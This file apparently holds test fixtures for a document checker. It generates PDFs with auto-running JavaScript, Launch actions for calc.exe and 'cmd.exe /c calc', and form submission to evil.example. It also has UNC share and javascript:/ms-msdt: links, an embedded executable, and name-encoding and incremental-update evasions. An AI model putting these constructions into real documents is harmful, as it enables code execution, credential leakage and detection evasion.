"""PDFs that would run, fetch or start something, each with what becomes of it."""

from __future__ import annotations

import zlib
from collections.abc import Mapping

from forum.papers.papers import Remark
from tests.tasks.documents.office.hostile_word import Case

PROGRAM, FORM = "starts a program", "a form that only some programs can show"
UNREADABLE, PORTFOLIO = "is damaged, or can’t be read through", "a portfolio of several files"
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
TEXT = b"BT /F1 12 Tf 72 700 Td (What the group is asked) Tj ET"


def pdf(
    catalog: bytes = b"",
    page: bytes = b"",
    *more: bytes,
    packed: bool = False,
    before: bytes = b"",
    resources: bytes = b"",
) -> bytes:
    """A PDF of one page with these entries in its catalog and page; ``more`` objects are numbered from 6.

    With ``packed`` they lie in an object stream, compressed, as newer programs write them.
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font "
        b"<< /F1 5 0 R >> %s >> %s >>" % (resources, page),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(TEXT), TEXT),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ]
    return _packed(objects) if packed else before + _plain(objects, len(before))


def _plain(objects: list[bytes], shift: int = 0) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(out) + shift)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out) + shift
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
    return out + end % (
        len(objects) + 1, table, len(objects) + 1, start,
    )  # fmt: skip


def _packed(objects: list[bytes]) -> bytes:
    """All but streams in one object stream, with a cross-reference stream."""
    out, rows = b"%PDF-1.7\n", {}
    inner = [(number, one) for number, one in enumerate(objects, start=1) if b"stream" not in one]
    heads, body = b"", b""
    for at, (number, one) in enumerate(inner):
        heads += b"%d %d " % (number, len(body))
        body += one + b" "
        rows[number] = (2, len(objects) + 1, at)
    for number, one in enumerate(objects, start=1):
        if number not in rows:
            rows[number] = (1, len(out), 0)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    data = zlib.compress(heads + body)
    rows[len(objects) + 1] = (1, len(out), 0)
    packed = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode"
    out += (b"%d 0 obj\n<< " + packed + b" /Length %d >>\nstream\n%s\nendstream\nendobj\n") % (
        len(objects) + 1, len(inner), len(heads), len(data), data,
    )  # fmt: skip
    number, start = len(objects) + 2, len(out)
    rows[number] = (1, start, 0)
    rows[0] = (0, 0, 65535)
    table = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + at.to_bytes(2, "big")
        for _, (kind, place, at) in sorted(rows.items())
    )
    return out + (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d "
        b">>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (number, number + 1, len(table), table, start)
    )


def later(first: bytes, number: int, new: bytes) -> bytes:
    """The file with an object changed at its end, as programs save that only add to a file."""
    start = first.rindex(b"startxref") + 10
    before = int(first[start:].split()[0])
    place = len(first)
    out = first + b"%d 0 obj\n%s\nendobj\n" % (number, new)
    table = (
        b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    )
    return out + table % (number, place, before, len(out))


def note(subtype: bytes, more: bytes = b"") -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] %s >>]" % (subtype, more)


def link(action: bytes) -> bytes:
    return note(b"Link", b"/A " + action)


WIDGET = b"/FT /Tx /T (name) /V (Jo) /DA (/F1 9 Tf)"
FIELD = b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] %s %%s >>" % WIDGET
ON_PAGE = b"/Annots [6 0 R]"


def form(more: bytes, field: bytes = b"") -> bytes:
    return pdf(b"/AcroForm << /Fields [6 0 R] %s >>" % more, ON_PAGE, FIELD % field)


def uri(target: bytes) -> bytes:
    return pdf(b"", link(b"<< /S /URI /URI (%s) >>" % target))


def layer(shown: bytes, more: bytes = b"", rule: bytes = b"") -> bytes:
    """A PDF with a layer, of whose layers this is said, and something that is shown by this rule."""
    return pdf(
        b"/OCProperties << /OCGs [6 0 R] /D << %s >> >>" % shown,
        b"",
        b"<< /Type /OCG /Name (Layer) %s >>" % more,
        b"<< /Type /OCMD /OCGs [6 0 R] %s >>" % rule,
        resources=b"/Properties << /MC0 7 0 R >>",
    )


FILE = (
    b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
)
NAMES = b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
PDFS: Mapping[str, Case] = {
    # Scripts
    "a script on opening": (lambda: pdf(b"/OpenAction " + JS), Remark.ACTIONS),
    "a script on opening, elsewhere": (lambda: pdf(b"/OpenAction 6 0 R", b"", JS), Remark.ACTIONS),
    "a script on opening, packed": (lambda: pdf(b"/OpenAction 6 0 R", b"", JS, packed=True), Remark.ACTIONS),
    "a script in a stream": (
        lambda: pdf(
            b"/OpenAction 6 0 R",
            b"",
            b"<< /S /JavaScript /JS 7 0 R >>",
            b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
        ),
        Remark.ACTIONS,
    ),
    "scripts by name": (
        lambda: pdf(b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", b"", JS),
        Remark.ACTIONS,
    ),
    "a script whose name is encoded": (
        lambda: pdf(b"/OpenAction << /S /#4aava#53cript /#4aS (x) >>"),
        Remark.ACTIONS,
    ),
    "a script whose key is encoded": (
        lambda: pdf(b"/Open#41ction << /S /JavaScr#69pt /J#53 (x) >>"),
        Remark.ACTIONS,
    ),
    "a script added at the end": (
        lambda: later(pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % JS),
        Remark.ACTIONS,
    ),
    "a script on closing": (lambda: pdf(b"/AA << /WC %s >>" % JS), Remark.ACTIONS),
    "a script on a page": (lambda: pdf(b"", b"/AA << /O %s >>" % JS), Remark.ACTIONS),
    "a script on a link": (lambda: pdf(b"", link(JS)), Remark.ACTIONS),
    "a script behind another action": (
        lambda: pdf(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next %s >> >>" % JS
        ),
        Remark.ACTIONS,
    ),
    "a script among next actions": (
        lambda: pdf(
            b"",
            link(b"<< /S /URI /URI (https://a.example) /Next [%s << /S /GoTo /D [3 0 R /Fit] >>] >>" % JS),
        ),
        Remark.ACTIONS,
    ),
    "a script in the outline": (
        lambda: pdf(
            b"/Outlines << /First 6 0 R /Last 6 0 R /Count 1 >>", b"", b"<< /Title (x) /A %s >>" % JS
        ),
        Remark.ACTIONS,
    ),
    "a script under an unknown key": (lambda: pdf(b"/Foo << /Bar [<< /Baz %s >>] >>" % JS), Remark.ACTIONS),
    "a script on the older way of a link": (lambda: pdf(b"", note(b"Link", b"/PA " + JS)), Remark.ACTIONS),
    "an annotation that is a resource too": (
        lambda: pdf(
            b"", ON_PAGE, b"<< /Subtype /Link /Rect [0 0 9 9] /A %s >>" % JS, resources=b"/XObject 6 0 R"
        ),
        Remark.ACTIONS,
    ),
    "a script before the file begins": (
        lambda: pdf(b"/OpenAction " + JS, before=b"%PDF-1.4\n% x\n"),
        Remark.ACTIONS,
    ),
    # Forms
    "a script in a form": (lambda: form(b"/CO [6 0 R]", b"/AA << /C %s >>" % JS), Remark.ACTIONS),
    "a button that sends the form": (
        lambda: form(b"", b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"),
        Remark.ACTIONS,
    ),
    "a button that fills the form": (
        lambda: form(b"", b"/A << /S /ImportData /F (a.fdf) >>"),
        Remark.ACTIONS,
    ),
    "a button that empties the form": (lambda: form(b"", b"/A << /S /ResetForm >>"), Remark.ACTIONS),
    "XFA": (lambda: form(b"/XFA [(template) 7 0 R]"), Remark.ACTIONS),
    "XFA without fields": (lambda: pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>"), FORM),
    "XFA that is drawn anew": (lambda: pdf(b"/NeedsRendering true /AcroForm << /XFA 4 0 R >>"), FORM),
    # Programs and files
    "a program on opening": (lambda: pdf(b"/OpenAction << /S /Launch /F (calc.exe) >>"), PROGRAM),
    "a program on a link": (
        lambda: pdf(b"", link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
        PROGRAM,
    ),
    "a program on a link, packed": (
        lambda: pdf(
            b"", b"/Annots [6 0 R]", b"<< /Subtype /Link /A << /S /#4caunch /F (a) >> >>", packed=True
        ),
        PROGRAM,
    ),
    "a program behind a link": (
        lambda: pdf(b"", link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>")),
        PROGRAM,
    ),
    "a link to a file": (
        lambda: pdf(b"", link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>")),
        Remark.LINKS,
    ),
    "a link into a file inside": (
        lambda: pdf(b"", link(b"<< /S /GoToE /T << /R /C /N (a) >> >>")),
        Remark.LINKS,
    ),
    "another file on opening": (lambda: pdf(b"/OpenAction << /S /GoToR /F (x.pdf) >>"), Remark.LINKS),
    "printing on opening": (lambda: pdf(b"/OpenAction << /S /Named /N /Print >>"), Remark.ACTIONS),
    "a link to a program": (lambda: uri(b"file:///c:/windows/calc.exe"), Remark.LINKS),
    "a link to a share": (lambda: uri(b"\\\\\\\\evil.example\\\\share"), Remark.LINKS),
    "a link that is a script": (lambda: uri(b"javascript:alert(1)"), Remark.LINKS),
    "a link that is a script, in capitals and blanks": (
        lambda: uri(b" Java\\nScript:alert(1)"),
        Remark.LINKS,
    ),
    "a link of another scheme": (lambda: uri(b"ms-msdt:/id"), Remark.LINKS),
    "an address before all links": (
        lambda: pdf(b"/URI << /Base (javascript:) >>", link(b"<< /S /JavaScript >>")),
        Remark.ACTIONS,
    ),
    "files attached": (lambda: pdf(NAMES, b"", *FILE), Remark.ATTACHED),
    "files attached, packed": (lambda: pdf(NAMES, b"", *FILE, packed=True), Remark.ATTACHED),
    "a file attached to a page": (
        lambda: pdf(b"", note(b"FileAttachment", b"/FS 6 0 R"), *FILE),
        Remark.ATTACHED,
    ),
    "a file attached by association": (lambda: pdf(b"/Foo [6 0 R] /AF [6 0 R]", b"", *FILE), Remark.ATTACHED),
    "a portfolio": (lambda: pdf(b"/Collection << /View /D >> " + NAMES, b"", *FILE), PORTFOLIO),
    # Sound, video and models
    "sound": (lambda: pdf(b"", note(b"Sound")), Remark.OBJECTS),
    "a film": (lambda: pdf(b"", note(b"Movie")), Remark.OBJECTS),
    "a screen": (lambda: pdf(b"", note(b"Screen", b"/A << /S /Rendition /JS (x) >>")), Remark.OBJECTS),
    "rich media": (lambda: pdf(b"", note(b"RichMedia", b"/RichMediaContent << >>")), Remark.OBJECTS),
    "a model": (lambda: pdf(b"", note(b"3D")), Remark.OBJECTS),
    "an annotation of no known kind": (lambda: pdf(b"", note(b"Evil")), Remark.OBJECTS),
    "sound on a link": (lambda: pdf(b"", link(b"<< /S /Sound >>")), Remark.ACTIONS),
    "a film on a link": (lambda: pdf(b"", link(b"<< /S /Movie >>")), Remark.ACTIONS),
    "a link that hides things": (lambda: pdf(b"", link(b"<< /S /Hide /T (x) >>")), Remark.ACTIONS),
    "a link that does what nobody knows": (lambda: pdf(b"", link(b"<< /S /Evil >>")), Remark.ACTIONS),
    # Pages from elsewhere
    "a page of another file": (
        lambda: pdf(
            b"",
            b"",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (x.pdf) /Page 0 >> "
            b"/Length 1 >>\nstream\nq\nendstream",
            resources=b"/XObject << /X 6 0 R >>",
        ),
        Remark.LINKED,
    ),
    "a picture of another file": (
        lambda: pdf(
            b"",
            b"",
            b"<< /Subtype /Image /F (https://evil.example/a.png) /Length 0 >>\nstream\n\nendstream",
            resources=b"/XObject << /X 6 0 R >>",
        ),
        Remark.LINKED,
    ),
    # Layers and fields that readers don't see
    "layers that are off unless said": (lambda: layer(b"/BaseState /OFF"), Remark.HIDDEN),
    "a layer that is off on a screen": (
        lambda: layer(b"/ON [6 0 R]", b"/Usage << /View << /ViewState /OFF >> >>"),
        Remark.HIDDEN,
    ),
    "what is shown while a layer is off": (
        lambda: layer(b"/ON [6 0 R]", b"", b"/P /AllOff"),
        Remark.HIDDEN,
    ),
    "what is shown by a rule": (lambda: layer(b"/ON [6 0 R]", b"", b"/VE [/Not 6 0 R]"), Remark.HIDDEN),
    "a hidden field": (lambda: form(b"", b"/F 2"), Remark.HIDDEN),
    # Not to be read through
    "a script that we can't find and others may": (
        lambda: b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (x) >>",
        UNREADABLE,
    ),
    "no catalog": (lambda: b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer << /Root 1 0 R >>\n", UNREADABLE),
}
